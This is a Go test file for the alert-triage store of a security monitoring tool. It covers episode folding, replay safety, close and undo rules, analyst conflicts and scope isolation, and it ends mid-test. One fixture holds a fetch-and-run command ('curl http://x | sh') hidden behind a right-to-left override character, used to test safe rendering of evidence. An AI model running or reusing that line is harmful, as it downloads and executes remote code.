package triage_test

import (
	"context"
	"database/sql"
	"errors"
	"fmt"
	"log/slog"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"hoalu/ecs"
	"hoalu/soc"
	"hoalu/state"
	"hoalu/state/statetest"
	"hoalu/triage"
)

var (
	all   = soc.Scope{All: true}
	duty1 = soc.Actor{ID: "a1", Name: "Trực ban 1", Roles: []soc.Role{soc.Analyst}, Address: "192.0.2.1"}
	duty2 = soc.Actor{ID: "a2", Name: "Trực ban 2", Roles: []soc.Role{soc.Analyst}}
)

// noon is when the tests begin: 12:00 in Việt Nam.
var noon = time.Date(2026, 11, 22, 5, 0, 0, 0, time.UTC)

// desk is a Store with a clock that the test moves and with what it handed on.
type desk struct {
	*triage.Store
	t  testing.TB
	db *state.DB

	mu      sync.Mutex
	now     time.Time
	outbox  []string
	deeds   []soc.Deed
	notices []soc.Notice
	fail    error // of the outbox
}

func open(t testing.TB, db *state.DB) *desk {
	d := &desk{t: t, db: db, now: noon}
	d.Store = triage.New(db, triage.Config{
		Now: func() time.Time { d.mu.Lock(); defer d.mu.Unlock(); return d.now },
		Outbox: func(_ context.Context, _ *sql.Tx, a soc.Alert, created bool) error {
			d.mu.Lock()
			defer d.mu.Unlock()
			if d.fail != nil {
				return d.fail
			}
			d.outbox = append(d.outbox, fmt.Sprintf("%s %v %d", a.Number, created, a.Count))
			return nil
		},
		Record: func(_ context.Context, _ *sql.Tx, deed soc.Deed) (int64, error) {
			d.mu.Lock()
			defer d.mu.Unlock()
			d.deeds = append(d.deeds, deed)
			return int64(len(d.deeds)), nil
		},
		Changed: func(n soc.Notice) { d.mu.Lock(); defer d.mu.Unlock(); d.notices = append(d.notices, n) },
	}, slog.New(slog.DiscardHandler))
	return d
}

func (d *desk) pass(by time.Duration) {
	d.mu.Lock()
	defer d.mu.Unlock()
	d.now = d.now.Add(by)
}

// firing is one hit of rule on host, at an offset from noon.
func firing(rule, host, event string, after time.Duration, change ...func(*triage.Firing)) triage.Firing {
	at := noon.Add(after).UnixMilli()
	e := &ecs.Event{ID: event, Time: at, Created: at, System: "HT-001", Source: "NG-0001"}
	if host != "" {
		e.AddString(ecs.HostName, host)
	}
	e.AddString(ecs.Message, "Failed password for "+host)
	f := triage.Firing{
		Hit: soc.Hit{Rule: rule, RuleVersion: "v1", Event: event, System: "HT-001", Source: "NG-0001", Time: at},
		Rule: soc.RuleInfo{ID: rule, Version: "v1", Title: map[string]string{"vi": "Dò mật khẩu " + rule, "en": "Guessing " + rule},
			Severity: soc.High, Status: "stable", Attack: []string{"T1110"}},
		Event: e, Unit: "DV-01", Level: 3, Exposure: soc.PlacementDataCentre,
		Trace: []soc.Condition{{Search: "selection", Field: "message", Op: "contains", Want: "Failed", Got: "Failed password", Matched: true}},
	}
	for _, c := range change {
		c(&f)
	}
	return f
}

func system(id string) func(*triage.Firing) {
	return func(f *triage.Firing) { f.Hit.System = id; f.Event.System = id }
}
func severity(s soc.Severity) func(*triage.Firing) {
	return func(f *triage.Firing) { f.Rule.Severity = s }
}
func exercise(f *triage.Firing) { f.Hit.Exercise = true }
func demo(f *triage.Firing)     { f.Hit.Demo = true }

func (d *desk) apply(seq uint64, firings ...triage.Firing) []soc.Alert {
	d.t.Helper()
	out, err := d.Apply(context.Background(), triage.Position{Reader: "detect", Epoch: "e1", Seq: seq}, firings, nil)
	if err != nil {
		d.t.Fatalf("Apply(%d) = %v", seq, err)
	}
	return out
}

func (d *desk) list(q triage.Query) []string {
	d.t.Helper()
	p, err := d.List(context.Background(), all, q)
	if err != nil {
		d.t.Fatalf("List(%+v) = %v", q, err)
	}
	var out []string
	for _, a := range p.Items {
		out = append(out, fmt.Sprintf("%s %s×%d", a.Number, a.Host, a.Count))
	}
	return out
}

func (d *desk) get(id string) soc.Alert {
	d.t.Helper()
	a, err := d.Get(context.Background(), all, id)
	if err != nil {
		d.t.Fatalf("Get(%s) = %v", id, err)
	}
	return a
}

func code(err error) string {
	var p *soc.Problem
	if errors.As(err, &p) {
		return p.Code
	}
	if err == nil {
		return ""
	}
	return "not a problem: " + err.Error()
}

func each(t *testing.T, fn func(t *testing.T, d *desk, reopen func() *desk)) {
	statetest.Each(t, func(t *testing.T, db *state.DB, reopen func() *state.DB) {
		fn(t, open(t, db), func() *desk { return open(t, reopen()) })
	})
}

func TestEpisodes(t *testing.T) {
	h, m := time.Hour, time.Minute
	for _, tc := range []struct {
		name    string
		firings []triage.Firing
		want    []string // by number
	}{
		{"hits within an hour fold", []triage.Firing{firing("r", "a", "1", 0), firing("r", "a", "2", 59*m), firing("r", "a", "3", 118*m)},
			[]string{"CB-2026-000001 a×3"}},
		{"an hour without hits ends it", []triage.Firing{firing("r", "a", "1", 0), firing("r", "a", "2", h+m)},
			[]string{"CB-2026-000001 a×1", "CB-2026-000002 a×1"}},
		{"late hits widen it backwards", []triage.Firing{firing("r", "a", "1", 0), firing("r", "a", "2", -50*m), firing("r", "a", "3", -100*m)},
			[]string{"CB-2026-000001 a×3"}},
		{"old hits are another episode", []triage.Firing{firing("r", "a", "1", 0), firing("r", "a", "2", -24*h), firing("r", "a", "3", -24*h+m),
			firing("r", "a", "4", m)},
			[]string{"CB-2026-000001 a×2", "CB-2026-000002 a×2"}},
		{"hosts differ, case does not", []triage.Firing{firing("r", "A", "1", 0), firing("r", "a", "2", 0), firing("r", "b", "3", 0)},
			[]string{"CB-2026-000001 a×2", "CB-2026-000002 b×1"}},
		{"rules differ", []triage.Firing{firing("r", "a", "1", 0), firing("s", "a", "2", 0)},
			[]string{"CB-2026-000001 a×1", "CB-2026-000002 a×1"}},
		{"systems differ", []triage.Firing{firing("r", "a", "1", 0), firing("r", "a", "2", 0, system("HT-002"))},
			[]string{"CB-2026-000001 a×1", "CB-2026-000002 a×1"}},
		{"exercise and sample never fold into the real",
			[]triage.Firing{firing("r", "a", "1", 0), firing("r", "a", "2", 0, exercise), firing("r", "a", "3", 0, demo)},
			[]string{"CB-2026-000001 a×1", "CB-2026-000002 a×1", "CB-2026-000003 a×1"}},
		{"the same event counts once", []triage.Firing{firing("r", "a", "1", 0), firing("r", "a", "1", 0)}, []string{"CB-2026-000001 a×1"}},
		{"a correlation counts what it counted", []triage.Firing{firing("c", "a", "9", 0, func(f *triage.Firing) {
			f.Hit.Count, f.Hit.Events, f.Hit.Group = 40, []string{"7", "8", "9"}, []soc.GroupValue{{Field: "source.ip", Value: "198.51.100.7"}}
		}), firing("c", "b", "10", m, func(f *triage.Firing) {
			f.Hit.Count, f.Hit.Events, f.Hit.Group = 41, []string{"8", "9", "10"}, []soc.GroupValue{{Field: "source.ip", Value: "198.51.100.7"}}
		})}, []string{"CB-2026-000001 a×41"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			each(t, func(t *testing.T, d *desk, _ func() *desk) {
				// One batch, and one batch per firing, must come to the same.
				d.apply(1, tc.firings...)
				if diff := cmp.Diff(tc.want, d.list(triage.Query{Sort: "number", Filter: triage.Filter{Exercise: triage.With}})); diff != "" {
					t.Errorf("in one batch (-want +got):\n%s", diff)
				}
			})
			d := open(t, statetest.Open(t))
			for i, f := range tc.firings {
				d.apply(uint64(i+1), f)
			}
			if diff := cmp.Diff(tc.want, d.list(triage.Query{Sort: "number", Filter: triage.Filter{Exercise: triage.With}})); diff != "" {
				t.Errorf("in batches of one (-want +got):\n%s", diff)
			}
		})
	}
}

func TestAlertHoldsWhatFired(t *testing.T) {
	each(t, func(t *testing.T, d *desk, reopen func() *desk) {
		f := firing("r", "WEB-02", "ev1", 0, severity(soc.Critical))
		f.Event.AddString(ecs.UserName, "www-data")
		f.Event.AddString(ecs.SourceIP, "203.0.113.9")
		f.Event.AddString(ecs.HoaluIdentifier, "cccd")
		f.Event.AddString(ecs.ParentName, "nginx")
		f.Event.AddString(ecs.ProcessCommandLine, "sh -c\n\u202ecurl http://x | sh")
		made := d.apply(7, f)
		a := reopen().get("CB-2026-000001")
		want := soc.Alert{
			ID: made[0].ID, Number: "CB-2026-000001", Rule: "r", RuleVersion: "v1", Title: f.Rule.Title, Severity: soc.Critical,
			Score:      55 + 12 + 5 + 10,
			ScoreParts: map[string]int{"severity": 55, "level": 12, "exposure": 5, "trust": 10, "repetition": 0},
			System:     "HT-001", Unit: "DV-01", Source: "NG-0001", Host: "web-02", User: "www-data", Address: "203.0.113.9",
			Group: []soc.GroupValue{},
			State: soc.AlertNew, First: noon.UnixMilli(), Last: noon.UnixMilli(), Created: noon.UnixMilli(), Changed: noon.UnixMilli(), Count: 1,
			Events: []string{"ev1"}, Evidence: "nginx → sh -c ·curl http://x | sh", Trace: f.Trace, Attack: []string{"T1110"}, Personal: true,
			Version: 1,
		}
		if diff := cmp.Diff(want, a); diff != "" {
			t.Errorf("stored alert (-want +got):\n%s", diff)
		}
		if diff := cmp.Diff(want, made[0]); diff != "" {
			t.Errorf("returned alert (-want +got):\n%s", diff)
		}
		if len(a.ID) != 26 || strings.ToLower(a.ID) != a.ID {
			t.Errorf("id %q is not 26 small letters", a.ID)
		}
		if got := d.get(a.ID); got.Number != a.Number {
			t.Errorf("Get by id = %s, want %s", got.Number, a.Number)
		}
		rule, err := d.RuleAt(context.Background(), "r", "v1")
		if err != nil || rule.Title["vi"] != f.Rule.Title["vi"] {
			t.Errorf("RuleAt = %+v, %v", rule, err)
		}
		if _, err := d.RuleAt(context.Background(), "r", "v2"); code(err) != triage.CodeNotFound {
			t.Errorf("RuleAt of an unknown version = %v", err)
		}
	})
}

func TestBatchAppliesOnce(t *testing.T) {
	each(t, func(t *testing.T, d *desk, reopen func() *desk) {
		ctx := context.Background()
		batch := []triage.Firing{firing("r", "a", "1", 0), firing("r", "a", "2", time.Minute), firing("r", "b", "3", 0)}
		snap := []byte("HLC\x01state")
		if _, err := d.Apply(ctx, triage.Position{Reader: "detect", Epoch: "e1", Seq: 5}, batch, snap); err != nil {
			t.Fatal(err)
		}
		d.apply(6, firing("r", "a", "4", 2*time.Minute))
		before, handed := d.list(triage.Query{Sort: "number"}), len(d.outbox)
		d2 := reopen() // kill -9 and start: the queue is read again from the snapshot
		for _, seq := range []uint64{4, 5, 6} {
			out, err := d2.Apply(ctx, triage.Position{Reader: "detect", Epoch: "e1", Seq: seq}, batch, []byte("other"))
			if err != nil || out != nil {
				t.Errorf("Apply(%d) again = %v, %v; want nothing", seq, out, err)
			}
		}
		if diff := cmp.Diff(before, d2.list(triage.Query{Sort: "number"})); diff != "" {
			t.Errorf("a replay changed the alerts (-want +got):\n%s", diff)
		}
		if len(d2.outbox) != 0 || handed != 3 {
			t.Errorf("outbox was told %d then %d times, want 3 then 0", handed, len(d2.outbox))
		}
		at, err := d2.Position(ctx, "detect")
		want := triage.Checkpoint{Position: triage.Position{Reader: "detect", Epoch: "e1", Seq: 6}, Snapshot: snap, SnapshotSeq: 5}
		if diff := cmp.Diff(want, at); diff != "" || err != nil {
			t.Errorf("Position: %v (-want +got):\n%s", err, diff)
		}
		// Another epoch (a restore) begins anew; its old snapshot is no good, and the very same alert is not made twice.
		if _, err := d2.Apply(ctx, triage.Position{Reader: "detect", Epoch: "e2", Seq: 1}, batch[:1], nil); err != nil {
			t.Fatal(err)
		}
		if at, _ = d2.Position(ctx, "detect"); at.Seq != 1 || at.Snapshot != nil || at.SnapshotSeq != 0 {
			t.Errorf("Position in a new epoch = %+v, want seq 1 and no snapshot", at)
		}
		if diff := cmp.Diff(before, d2.list(triage.Query{Sort: "number"})); diff != "" {
			t.Errorf("the same events in another epoch changed the alerts (-want +got):\n%s", diff)
		}
		if at, err := d2.Position(ctx, "nobody"); err != nil || at.Seq != 0 {
			t.Errorf("Position of a new reader = %+v, %v", at, err)
		}
	})
}

func TestOutboxFailureLeavesNothing(t *testing.T) {
	each(t, func(t *testing.T, d *desk, _ func() *desk) {
		ctx := context.Background()
		boom := errors.New("boom")
		d.fail = boom
		if _, err := d.Apply(ctx, triage.Position{Reader: "detect", Epoch: "e1", Seq: 1}, []triage.Firing{firing("r", "a", "1", 0)},
			nil); !errors.Is(err, boom) {
			t.Fatalf("Apply = %v, want the outbox's error", err)
		}
		if got := d.list(triage.Query{}); len(got) != 0 || len(d.notices) != 0 {
			t.Errorf("a failed batch left %v and %v", got, d.notices)
		}
		d.fail = nil
		if got := d.apply(1, firing("r", "a", "1", 0)); len(got) != 1 || got[0].Number != "CB-2026-000001" {
			t.Errorf("the batch again = %v, want CB-2026-000001", got)
		}
	})
}

func TestEventsAreBoundedAndCountIsExact(t *testing.T) {
	each(t, func(t *testing.T, d *desk, _ func() *desk) {
		n := 0
		for seq := uint64(1); seq <= 4; seq++ {
			var fs []triage.Firing
			for range 300 {
				n++
				fs = append(fs, firing("r", "a", fmt.Sprintf("ev%04d", n), time.Duration(n)*time.Second))
			}
			d.apply(seq, fs...)
		}
		a := d.get("CB-2026-000001")
		if a.Count != 1200 || len(a.Events) != 50 || a.Events[0] != "ev0001" || a.Events[1] != "ev1152" || a.Events[49] != "ev1200" {
			t.Errorf("count %d, %d events %s %s … %s; want 1200, 50, the first and the newest", a.Count, len(a.Events), a.Events[0], a.Events[1],
				a.Events[49])
		}
		if a.ScoreParts["repetition"] != 8 || a.Score != 42+12+5+10+8 {
			t.Errorf("score %d of %v", a.Score, a.ScoreParts)
		}
		notes, err := d.History(context.Background(), all, a.Number)
		if err != nil {
			t.Fatal(err)
		}
		var got []string
		for _, n := range notes {
			got = append(got, n.Action+" "+n.Text)
		}
		if diff := cmp.Diff([]string{"created ", "hit 10", "hit 100", "hit 1000"}, got); diff != "" {
			t.Errorf("history (-want +got):\n%s", diff)
		}
		if a.Version != 4 {
			t.Errorf("version %d, want 4: one a batch", a.Version)
		}
	})
}

func TestFloodFolds(t *testing.T) {
	each(t, func(t *testing.T, d *desk, _ func() *desk) {
		flood := func(from, n int, at time.Duration, change ...func(*triage.Firing)) (fs []triage.Firing) {
			for i := from; i < from+n; i++ {
				fs = append(fs, firing("r", fmt.Sprintf("h%05d", i), fmt.Sprintf("e%d", i), at, change...))
			}
			return fs
		}
		d.apply(1, flood(0, 500, 0)...)
		d.apply(2, flood(500, 500, time.Second)...)
		d.apply(3, flood(2000, 5, time.Second, system("HT-002"))...) // another system is not hidden by it
		d.apply(4, flood(10, 1, 2*time.Second)...)                   // an alert of its own goes on by itself: same event, counted once
		p, err := d.List(context.Background(), all, triage.Query{Sort: "count", Limit: 500})
		if err != nil {
			t.Fatal(err)
		}
		if p.Total != 31+5 {
			t.Errorf("%d alerts, want 30 and the one that holds the rest, and 5 of the other system", p.Total)
		}
		last := p.Items[len(p.Items)-1]
		if last.Folded != 970 || last.Count != 970 || last.Host != "" {
			t.Errorf("the last: folded %d, count %d, host %q; want 970, 970 and none", last.Folded, last.Count, last.Host)
		}
		d.apply(5, flood(3000, 1, 61*time.Second)...)
		if a := d.get("CB-2026-000037"); a.Host != "h03000" || a.Folded != 0 {
			t.Errorf("the next minute began with %q, folded %d; want an alert of its own", a.Host, a.Folded)
		}
	})
}

func TestMachineNeverReopens(t *testing.T) {
	each(t, func(t *testing.T, d *desk, _ func() *desk) {
		ctx := context.Background()
		d.apply(1, firing("r", "a", "1", 0))
		if _, err := d.Close(ctx, duty1, all, []triage.Ref{{ID: "CB-2026-000001"}}, "false_alarm", ""); err != nil {
			t.Fatal(err)
		}
		d.apply(2, firing("r", "a", "2", time.Minute), firing("r", "a", "3", 2*time.Minute))
		d.apply(3, firing("r", "a", "4", 3*time.Minute))
		if a := d.get("CB-2026-000001"); a.State != soc.AlertClosed || a.Count != 1 {
			t.Errorf("the closed alert became %s ×%d", a.State, a.Count)
		}
		b := d.get("CB-2026-000002")
		if b.Previous != "CB-2026-000001" || b.Count != 3 || b.State != soc.AlertNew {
			t.Errorf("the new episode: previous %q ×%d %s", b.Previous, b.Count, b.State)
		}
		seen, err := d.Seen(ctx, all, b.ID)
		if diff := cmp.Diff(triage.Seen{Times: 1, Reasons: map[string]int64{"false_alarm": 1}}, seen); diff != "" || err != nil {
			t.Errorf("Seen: %v (-want +got):\n%s", err, diff)
		}
	})
}

func TestCloseAndReopenRules(t *testing.T) {
	ctx := context.Background()
	for _, tc := range []struct {
		name         string
		severity     soc.Severity
		reason, note string
		want         string
	}{
		{"each reason, not critical: true attack", soc.High, "true_attack", "", ""},
		{"authorised", soc.High, "authorised", "", ""},
		{"false alarm", soc.Medium, "false_alarm", "", ""},
		{"duplicate", soc.Low, "duplicate", "", ""},
		{"exercise", soc.Low, "exercise", "", ""},
		{"inconclusive needs a note", soc.Low, "inconclusive", " \n", triage.CodeNote},
		{"inconclusive with a note", soc.Low, "inconclusive", "Nguồn NG-0002 im lặng.", ""},
		{"critical needs a note", soc.Critical, "false_alarm", "", triage.CodeNote},
		{"critical with a note", soc.Critical, "false_alarm", "Kiểm tra định kỳ.", ""},
		{"unknown reason", soc.Low, "because", "", triage.CodeReason},
		{"no reason", soc.Low, "", "", triage.CodeReason},
		{"a note without end", soc.Low, "duplicate", strings.Repeat("ạ", 4001), triage.CodeLong},
	} {
		t.Run(tc.name, func(t *testing.T) {
			d := open(t, statetest.Open(t))
			d.apply(1, firing("r", "a", "1", 0, severity(tc.severity)))
			ref := []triage.Ref{{ID: "CB-2026-000001", Version: 1}}
			r, err := d.Close(ctx, duty1, all, ref, tc.reason, tc.note)
			if code(err) != tc.want {
				t.Fatalf("Close(%q, %q) = %v, want %q", tc.reason, tc.note, err, tc.want)
			}
			a := d.get("CB-2026-000001")
			if tc.want != "" {
				if a.State != soc.AlertNew || a.Version != 1 {
					t.Errorf("a refused deed left %s version %d", a.State, a.Version)
				}
				return
			}
			if a.State != soc.AlertClosed || a.CloseReason != tc.reason || a.Closed != noon.UnixMilli() || a.ClosedBy != duty1.Name ||
				a.Holder != duty1.ID || a.Acknowledged == 0 {
				t.Errorf("closed alert: %+v", a)
			}
			if r.Undo == "" || r.UndoUntil != noon.UnixMilli()+10_000 {
				t.Errorf("undo %q until %d", r.Undo, r.UndoUntil)
			}
			if _, err := d.Close(ctx, duty2, all, ref, "duplicate", "x"); code(err) != triage.CodeClosed || problem(err).Values["by"] != duty1.Name {
				t.Errorf("closing again = %v, want %s naming %s", err, triage.CodeClosed, duty1.Name)
			}
			if _, err := d.Acknowledge(ctx, duty2, all, ref, true); code(err) != triage.CodeClosed {
				t.Errorf("acknowledging a closed one = %v", err)
			}
			if _, err := d.Assign(ctx, duty2, all, ref, "a9", "X"); code(err) != triage.CodeClosed {
				t.Errorf("assigning a closed one = %v", err)
			}
			if _, err := d.Reopen(ctx, duty2, all, []triage.Ref{{ID: a.ID, Version: 1}}, "xem lại"); code(err) != triage.CodeConflict {
				t.Errorf("reopening what one saw open = %v, want conflict", err)
			}
			if _, err := d.Reopen(ctx, duty2, all, []triage.Ref{{ID: a.ID, Version: a.Version}}, "xem lại"); err != nil {
				t.Fatal(err)
			}
			a = d.get("CB-2026-000001")
			if a.State != soc.AlertNew || !a.Reopened || a.CloseReason != "" || a.Closed != 0 || a.Holder != "" || a.Acknowledged != 0 {
				t.Errorf("reopened alert: %+v", a)
			}
			if _, err := d.Reopen(ctx, duty2, all, ref, ""); code(err) != triage.CodeNotClosed {
				t.Errorf("reopening an open one = %v", err)
			}
		})
	}
}

func problem(err error) *soc.Problem {
	var p *soc.Problem
	if !errors.As(err, &p) {
		return &soc.Problem{}
	}
	return p
}

func TestTwoPersonsOnOneAlert(t *testing.T) {
	each(t, func(t *testing.T, d *desk, _ func() *desk) {
		ctx := context.Background()
		ref := []triage.Ref{{ID: "CB-2026-000001", Version: 1}}
		d.apply(1, firing("r", "a", "1", 0))
		if _, err := d.Acknowledge(ctx, duty2, all, ref, false); err != nil {
			t.Fatal(err)
		}
		d.pass(3 * time.Second)
		_, err := d.Acknowledge(ctx, duty1, all, ref, false)
		if p := problem(err); p.Code != triage.CodeAcknowledged || p.Status != 409 || p.Values["by"] != duty2.Name ||
			p.Values["at"] != fmt.Sprint(noon.UnixMilli()) {
			t.Errorf("second acknowledge = %+v, want who and when", p)
		}
		if r, err := d.Acknowledge(ctx, duty2, all, ref, false); err != nil || r.Undo != "" {
			t.Errorf("acknowledging one's own again = %+v, %v; want nothing done", r, err)
		}
		_, err = d.Close(ctx, duty1, all, ref, "duplicate", "")
		if p := problem(err); p.Code != triage.CodeConflict || p.Values["by"] != duty2.Name || p.Values["deed"] != "acknowledged" {
			t.Errorf("closing what one saw new = %+v, want conflict", p)
		}
		d.apply(2, firing("r", "a", "2", time.Minute)) // hits are no conflict
		if _, err := d.Close(ctx, duty1, all, []triage.Ref{{ID: "CB-2026-000001", Version: 2}}, "duplicate", ""); err != nil {
			t.Errorf("closing after a hit = %v", err)
		}
		d.apply(3, firing("r", "b", "3", 0))
		if _, err := d.Acknowledge(ctx, duty2, all, []triage.Ref{{ID: "CB-2026-000002"}}, false); err != nil {
			t.Fatal(err)
		}
		if _, err := d.Acknowledge(ctx, duty1, all, []triage.Ref{{ID: "CB-2026-000002"}}, true); err != nil {
			t.Errorf("taking over = %v", err)
		}
		notes, err := d.History(ctx, all, "CB-2026-000002")
		if err != nil {
			t.Fatal(err)
		}
		if len(notes) != 3 || notes[1].Name != duty2.Name || notes[2].Name != duty1.Name {
			t.Errorf("history %+v, want both persons", notes)
		}
	})
}

func TestAssign(t *testing.T) {
	ctx := context.Background()
	d := open(t, statetest.Open(t))
	d.apply(1, firing("r", "a", "1", 0), firing("r", "b", "2", 0))
	if _, err := d.Assign(ctx, duty1, all, []triage.Ref{{ID: "CB-2026-000001"}}, "", ""); code(err) != triage.CodeHolder {
		t.Errorf("assigning to nobody = %v", err)
	}
	if _, err := d.Assign(ctx, duty1, all, []triage.Ref{{ID: "CB-2026-000001"}}, duty2.ID, duty2.Name); err != nil {
		t.Fatal(err)
	}
	if a := d.get("CB-2026-000001"); a.State != soc.AlertNew || a.Holder != duty2.ID {
		t.Errorf("given to another: %s held by %q; want it new until that one acknowledges", a.State, a.Holder)
	}
	if _, err := d.Assign(ctx, duty1, all, []triage.Ref{{ID: "CB-2026-000002"}}, duty1.ID, duty1.Name); err != nil {
		t.Fatal(err)
	}
	if a := d.get("CB-2026-000002"); a.State != soc.AlertAcknowledged || a.Holder != duty1.ID {
		t.Errorf("taken oneself: %s held by %q", a.State, a.Holder)
	}
	if _, err := d.Acknowledge(ctx, duty2, all, []triage.Ref{{ID: "CB-2026-000001"}}, false); err != nil {
		t.Errorf("acknowledging what one was given = %v", err)
	}
}

func TestUndo(t *testing.T) {
	each(t, func(t *testing.T, d *desk, _ func() *desk) {
		ctx := context.Background()
		d.apply(1, firing("r", "a", "1", 0), firing("r", "b", "2", 0), firing("r", "c", "3", 0))
		refs := []triage.Ref{{ID: "CB-2026-000001"}, {ID: "CB-2026-000002"}, {ID: "CB-2026-000003"}, {ID: "CB-2026-999999"},
			{ID: "CB-2026-000001"}}
		r, err := d.Close(ctx, duty1, all, refs, "duplicate", "")
		if err != nil || len(r.Changed) != 3 || len(r.Failed) != 1 || r.Failed[0].ID != "CB-2026-999999" ||
			r.Failed[0].Problem.Code != triage.CodeNotFound {
			t.Fatalf("Close of many = %+v, %v", r, err)
		}
		if _, err := d.Undo(ctx, duty2, all, r.Undo); code(err) != triage.CodeUndo {
			t.Errorf("another's undo = %v", err)
		}
		d.pass(9 * time.Second)
		d.apply(2, firing("r", "d", "4", 0))
		if _, err := d.Reopen(ctx, duty2, all, refs[2:3], ""); err != nil {
			t.Fatal(err)
		}
		u, err := d.Undo(ctx, duty1, all, r.Undo)
		if err != nil || len(u.Changed) != 2 || len(u.Failed) != 1 || u.Failed[0].Problem.Code != triage.CodeConflict ||
			u.Failed[0].Problem.Values["by"] != duty2.Name {
			t.Fatalf("Undo = %+v, %v; want two back and one conflict", u, err)
		}
		a := d.get("CB-2026-000001")
		if a.State != soc.AlertNew || a.Holder != "" || a.CloseReason != "" || a.Closed != 0 || a.Acknowledged != 0 {
			t.Errorf("taken back: %+v", a)
		}
		if _, err := d.Undo(ctx, duty1, all, r.Undo); code(err) != triage.CodeUndo {
			t.Errorf("undo twice = %v", err)
		}
		r, err = d.Acknowledge(ctx, duty1, all, refs[:1], false)
		if err != nil {
			t.Fatal(err)
		}
		d.pass(10*time.Second + time.Millisecond)
		if _, err := d.Undo(ctx, duty1, all, r.Undo); code(err) != triage.CodeUndo {
			t.Errorf("undo too late = %v", err)
		}
		notes, err := d.History(ctx, all, "CB-2026-000001")
		if err != nil {
			t.Fatal(err)
		}
		var got []string
		for _, n := range notes {
			got = append(got, n.Action)
		}
		if diff := cmp.Diff([]string{"created", "closed", "undo", "acknowledged"}, got); diff != "" {
			t.Errorf("history keeps both deeds (-want +got):\n%s", diff)
		}
		var audit []string
		for _, x := range d.deeds {
			if x.Object == "CB-2026-000001" {
				audit = append(audit, x.Action)
				if x.After == "" || x.Before == "" != (x.Action == "alert.create") {
					t.Errorf("audit %s: before %q after %q", x.Action, x.Before, x.After)
				}
			}
		}
		if diff := cmp.Diff([]string{"alert.create", "alert.close", "alert.undo", "alert.acknowledge"}, audit); diff != "" {
			t.Errorf("audit (-want +got):\n%s", diff)
		}
	})
}

func TestNote(t *testing.T) {
	ctx := context.Background()
	d := open(t, statetest.Open(t))
	d.apply(1, firing("r", "a", "1", 0))
	ref := []triage.Ref{{ID: "CB-2026-000001", Version: 1}}
	if _, err := d.Note(ctx, duty1, all, ref, "  "); code(err) != triage.CodeNote {
		t.Errorf("empty note = %v", err)
	}
	if _, err := d.Note(ctx, duty1, all, nil, "x"); code(err) != triage.CodeNothing {
		t.Errorf("note on nothing = %v", err)
	}
	if _, err := d.Acknowledge(ctx, duty2, all, ref, false); err != nil {
		t.Fatal(err)
	}
	if _, err := d.Note(ctx, duty1, all, []triage.Ref{{ID: "CB-2026-000001", Version: 1}}, "đã gọi đơn vị vận hành"); err != nil {
		t.Errorf("a note after another's deed = %v: it overwrites nothing", err)
	}
	notes, err := d.History(ctx, all, "CB-2026-000001")
	if err != nil {
		t.Fatal(err)
	}
	if n := notes[len(notes)-1]; n.Action != "note" || n.Text != "đã gọi đơn vị vận hành" || n.Name != duty1.Name || n.Actor != duty1.ID ||
		n.Time == 0 {
		t.Errorf("note %+v", n)
	}
}

func TestScopeNeverLeaks(t *testing.T) {
	each(t, func(t *testing.T, d *desk, _ func() *desk) {
		ctx := context.Background()
		d.apply(1, firing("r", "a", "1", 0, system("HT-001")), firing("r", "b", "2", 0, system("HT-002"), severity(soc.Critical)),
			firing("r", "c", "3", 0, system("HT-003")), firing("r", "d", "4", 0, system(soc.Unassigned)))
		own := soc.Scope{Systems: []string{"HT-002"}}
		for name, scope := range map[string]soc.Scope{"no systems": {}, "another's": {Systems: []string{"HT-009"}}} {
			p, err := d.List(ctx, scope, triage.Query{})
			if err != nil || p.Total != 0 || len(p.Items) != 0 {
				t.Errorf("%s: List = %+v, %v", name, p, err)
			}
			c, err := d.Counts(ctx, scope, duty1.ID, false)
			if diff := cmp.Diff(triage.Counts{MeanAck: -1}, c); diff != "" || err != nil {
				t.Errorf("%s: Counts: %v (-want +got):\n%s", name, err, diff)
			}
		}
		p, err := d.List(ctx, own, triage.Query{Filter: triage.Filter{Systems: []string{"HT-001", "HT-002"}, Text: "failed"}})
		if err != nil || p.Total != 1 || p.Items[0].System != "HT-002" {
			t.Errorf("List = %+v, %v", p, err)
		}
		if c, err := d.Counts(ctx, own, duty1.ID, false); err != nil || c.Open != 1 || c.Unacknowledged != 1 || c.Urgent != 1 || c.Today != 1 {
			t.Errorf("Counts = %+v, %v", c, err)
		}
		if c, err := d.Counts(ctx, own, duty1.ID, true); err != nil || c != (triage.Counts{MeanAck: -1}) {
			t.Errorf("Counts of personal ones = %+v, %v; none is", c, err)
		}
		h, err := d.Histogram(ctx, own, triage.Filter{}, noon.UnixMilli(), noon.UnixMilli()+3_600_000, 3_600_000)
		if err != nil || len(h) != 1 || h[0].Count[soc.Critical] != 1 || h[0].Count[soc.High] != 0 {
			t.Errorf("Histogram = %+v, %v", h, err)
		}
		for _, by := range []string{"host", "user", "address", "rule", "system", "entity"} {
			if g, n, err := d.Groups(ctx, own, triage.Filter{}, by, 10); err != nil || n != 1 || len(g) != 1 || g[0].Alerts != 1 {
				t.Errorf("Groups(%s) = %+v, %d, %v", by, g, n, err)
			}
		}
		// Out of scope and never there answer alike.
		for name, call := range map[string]func(id string) error{
			"Get":     func(id string) error { _, err := d.Get(ctx, own, id); return err },
			"History": func(id string) error { _, err := d.History(ctx, own, id); return err },
			"Seen":    func(id string) error { _, err := d.Seen(ctx, own, id); return err },
			"Acknowledge": func(id string) error {
				_, err := d.Acknowledge(ctx, duty1, own, []triage.Ref{{ID: id}}, true)
				return err
			},
			"Close": func(id string) error {
				_, err := d.Close(ctx, duty1, own, []triage.Ref{{ID: id}}, "duplicate", "")
				return err
			},
			"Note": func(id string) error { _, err := d.Note(ctx, duty1, own, []triage.Ref{{ID: id}}, "x"); return err },
		} {
			hidden, absent := problem(call("CB-2026-000001")), problem(call("CB-2026-000099"))
			hidden.Values["id"], hidden.Detail = "CB-2026-000099", absent.Detail
			if diff := cmp.Diff(absent, hidden); diff != "" || absent.Code != triage.CodeNotFound {
				t.Errorf("%s tells a hidden alert from an absent one (-absent +hidden):\n%s", name, diff)
			}
		}
	})
}

func TestListFiltersSortsAndPages(t *testing.T) {
	each(t, func(t *testing.T, d *desk, _ func() *desk) {
		ctx := context.Background()
		var fs []triage.Firing
		severities := []soc.Severity{soc.Informational, soc.Low, soc.Medium, soc.High, soc.Critical}
		for i := range 25 {
			fs = append(fs, firing(fmt.Sprintf("r%d", i%5), fmt.Sprintf("h%02d", i), fmt.Sprintf("e%d", i), time.Duration(i%7)*time.Minute,
				severity(severities[i%5])))
		}
